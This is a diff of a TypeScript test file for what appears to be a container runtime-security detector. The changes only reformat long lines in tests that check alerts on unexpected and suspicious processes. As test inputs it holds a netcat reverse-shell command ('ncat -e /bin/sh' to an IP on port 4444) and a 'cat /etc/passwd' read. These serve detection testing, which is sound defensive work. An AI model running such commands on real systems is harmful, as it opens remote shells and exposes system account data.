@@ -9,7 +9,9 @@ function learned() {
   const h = harness();
   h.feed(started(h.at(0), api));
   h.feed(
-    exec(h.at(1000), api, BUSYBOX, ['sh', '-c', 'while true; do /usr/local/bin/client api; sleep 1; done'], { parentExe: null }),
+    exec(h.at(1000), api, BUSYBOX, ['sh', '-c', 'while true; do /usr/local/bin/client api; sleep 1; done'], {
+      parentExe: null,
+    }),
     exec(h.at(2000), api, BUSYBOX, ['sleep', '1'], { parentExe: BUSYBOX }),
     exec(h.at(3000), api, '/usr/local/bin/client', ['/usr/local/bin/client', 'api'], { parentExe: BUSYBOX }),
   );
@@ -20,16 +22,22 @@ function learned() {
 describe('unexpected_process', () => {
   it('alerts on an executable the workload never ran during learning', () => {
     const h = learned();
-    const [finding] = h.feed(exec(h.now, api, '/usr/bin/python3', ['python3', '-c', 'print(1)'], { parentExe: BUSYBOX }));
+    const [finding] = h.feed(
+      exec(h.now, api, '/usr/bin/python3', ['python3', '-c', 'print(1)'], { parentExe: BUSYBOX }),
+    );
     expect(finding?.rule).toBe('unexpected_process');
     expect(finding?.key).toBe('/usr/bin/python3');
-    expect(finding?.summary).toContain('shop-api-1 (shop/api) ran /usr/bin/python3, which it never ran during learning');
+    expect(finding?.summary).toContain(
+      'shop-api-1 (shop/api) ran /usr/bin/python3, which it never ran during learning',
+    );
   });
 
   it('tells busybox applets apart: a learned sleep does not make an unlearned cat expected', () => {
     const h = learned();
     expect(h.feed(exec(h.now, api, BUSYBOX, ['sleep', '5'], { parentExe: BUSYBOX }))).toEqual([]);
-    expect(h.feed(exec(h.now, api, BUSYBOX, ['cat', '/etc/passwd'], { parentExe: BUSYBOX }))[0]?.key).toBe('/bin/busybox (cat)');
+    expect(h.feed(exec(h.now, api, BUSYBOX, ['cat', '/etc/passwd'], { parentExe: BUSYBOX }))[0]?.key).toBe(
+      '/bin/busybox (cat)',
+    );
   });
 
   it('stays silent while learning', () => {
@@ -48,7 +56,9 @@ describe('suspicious_process', () => {
 
   it('calls netcat with -e a reverse shell', () => {
     const h = harness();
-    expect(h.feed(exec(h.at(0), api, '/usr/bin/ncat', ['ncat', '-e', '/bin/sh', '203.0.113.10', '4444']))[0]?.summary).toContain('reverse shell');
+    expect(
+      h.feed(exec(h.at(0), api, '/usr/bin/ncat', ['ncat', '-e', '/bin/sh', '203.0.113.10', '4444']))[0]?.summary,
+    ).toContain('reverse shell');
   });
 
   it('alerts on package managers installing, miners and stratum URLs, and SSH', () => {
@@ -82,7 +92,13 @@ describe('suspicious_process', () => {
 
   it('stays silent on the entrypoint shell it learned, in a new container of the workload', () => {
     const h = learned();
-    expect(h.feed(exec(h.now, api, BUSYBOX, ['sh', '-c', 'while true; do /usr/local/bin/client api; sleep 1; done'], { parentExe: null }))).toEqual([]);
+    expect(
+      h.feed(
+        exec(h.now, api, BUSYBOX, ['sh', '-c', 'while true; do /usr/local/bin/client api; sleep 1; done'], {
+          parentExe: null,
+        }),
+      ),
+    ).toEqual([]);
   });
 
   it('alerts on an entrypoint shell that never ran during learning', () => {
